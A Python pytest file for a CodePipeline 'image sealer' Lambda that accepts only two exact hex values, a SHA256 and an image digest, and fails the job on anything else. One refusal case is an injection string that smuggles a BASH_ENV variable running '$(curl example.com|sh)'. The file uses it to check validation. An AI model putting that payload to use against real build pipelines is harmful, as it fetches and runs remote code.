"""The image sealer: two plain hex values come out, or the job fails."""

from __future__ import annotations

import json
from collections.abc import Callable
from types import ModuleType
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from hypothesis import given
from hypothesis import strategies as st

from common.strict import MalformedError
from lambda_fakes import Context
from sealer.service import CLAIM, seal

SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
DIGEST = f"sha256:{SHA[::-1]}"
JOB = "11111111-abcd-1111-abcd-111111abcdef"


def test_what_build_exports_comes_out_as_it_is() -> None:
    assert seal(f"{SHA} {DIGEST}") == {"SHA256": SHA, "DIGEST": DIGEST}


@pytest.mark.parametrize(
    "claim",
    [
        f'{SHA} {DIGEST}","type":"PLAINTEXT"}},{{"name":"BASH_ENV","value":"$(curl example.com|sh)',
        f"{SHA} {DIGEST}\n",
        f"{SHA}  {DIGEST}",
        f"{SHA} {DIGEST.upper()}",
        f"{SHA} sha512:{SHA}",
        f"{SHA[:-1]} {DIGEST}",
        f"{SHA} ",
        f" {DIGEST}",
        "",
        "#{Build.IMAGE_SHA256} #{Build.IMAGE_DIGEST}",
        None,
        7,
    ],
)
def test_everything_else_is_refused(claim: object) -> None:
    with pytest.raises(MalformedError, match="exported something else"):
        seal(claim)


@given(st.text())
def test_no_text_gets_through_that_is_not_two_hex_values(claim: str) -> None:
    if CLAIM.fullmatch(claim) is None:
        with pytest.raises(MalformedError):
            seal(claim)


def event(claim: object) -> dict[str, Any]:
    configuration = {"FunctionName": "acme-image-sealer", "UserParameters": claim}
    return {"CodePipeline.job": {"id": JOB, "data": {"actionConfiguration": {"configuration": configuration}}}}


@pytest.fixture
def sealer(load_handler: Callable[[str], ModuleType], monkeypatch: pytest.MonkeyPatch) -> tuple[ModuleType, Stubber]:
    module = load_handler("image_sealer")
    client = boto3.client("codepipeline", region_name="eu-central-1", aws_access_key_id="x", aws_secret_access_key="x")
    stubber = Stubber(client)  # validates the parameters against the service's model
    monkeypatch.setattr(module, "jobs", lambda: client)
    return module, stubber


def test_the_job_succeeds_with_the_two_values(
    sealer: tuple[ModuleType, Stubber], capsys: pytest.CaptureFixture[str]
) -> None:
    module, stubber = sealer
    expected = {"jobId": JOB, "outputVariables": {"SHA256": SHA, "DIGEST": DIGEST}}
    stubber.add_response("put_job_success_result", {}, expected)
    with stubber:
        module.handler(event(f"{SHA} {DIGEST}"), Context())
    stubber.assert_no_pending_responses()
    assert json.loads(capsys.readouterr().out)["result"] == "sealed"


@pytest.mark.parametrize("claim", ['x","type":"PLAINTEXT"', None, "x" * 1000])
def test_the_job_fails_otherwise(sealer: tuple[ModuleType, Stubber], claim: object) -> None:
    module, stubber = sealer
    said: dict[str, Any] = {}

    def keep(params: dict[str, Any], **_: object) -> None:
        said.update(params)

    stubber.client.meta.events.register("provide-client-params.codepipeline.PutJobFailureResult", keep)
    from botocore.stub import ANY

    stubber.add_response("put_job_failure_result", {}, {"jobId": JOB, "failureDetails": ANY})
    with stubber:
        module.handler(event(claim), Context())
    stubber.assert_no_pending_responses()
    assert said["failureDetails"]["type"] == "JobFailed"
    assert said["failureDetails"]["message"].startswith("The image is not sealed: Build/image exported something else")


def test_an_event_that_is_no_job_raises(sealer: tuple[ModuleType, Stubber]) -> None:
    module, _ = sealer
    with pytest.raises(KeyError):
        module.handler({}, Context())
